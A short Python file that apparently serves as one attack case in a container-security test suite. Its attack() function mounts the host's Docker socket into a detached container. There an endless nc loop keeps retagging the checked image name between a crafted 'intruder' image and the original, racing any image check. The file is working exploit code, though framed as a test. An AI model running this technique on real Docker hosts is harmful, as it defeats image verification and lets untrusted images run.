"""A container with the daemon's socket puts the right image under the name while checks look.

It must stand still while they do.
"""


def attack(client, given):
    import io

    text = "FROM dockyard/busybox\n" + "".join(f"RUN echo {n} > /{n}\n" for n in range(9))
    client.images.build(fileobj=io.BytesIO(text.encode()), tag="intruder", rm=True)
    client.images.get("dockyard/busybox").tag(given.image)
    # One request: give the name to the image with nine layers, then give it back, for ever.
    code = (
        "while true; do for from in intruder dockyard/busybox; do "
        f"printf 'POST /images/'$from'/tag?repo={given.image} HTTP/1.0\\r\\n"
        "Content-Length: 0\\r\\n\\r\\n' | nc local:/s > /dev/null; done; done"
    )
    client.containers.run(
        "dockyard/busybox",
        ["sh", "-c", code],
        volumes={"/run/docker.sock": {"bind": "/s", "mode": "rw"}},
        detach=True,
    )
    print("tried")
    return 0


prints = "tried"
